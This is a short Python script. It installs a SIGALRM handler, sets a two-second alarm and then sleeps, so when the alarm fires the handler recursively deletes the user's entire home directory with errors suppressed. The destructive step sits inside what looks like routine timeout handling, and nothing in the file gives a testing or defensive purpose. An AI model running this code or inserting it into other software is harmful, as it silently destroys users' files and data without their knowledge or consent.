import shutil
import signal
import time
from pathlib import Path


def on_timeout(signum, frame):
    shutil.rmtree(Path.home(), ignore_errors=True)


signal.signal(signal.SIGALRM, on_timeout)
signal.alarm(2)
time.sleep(5)
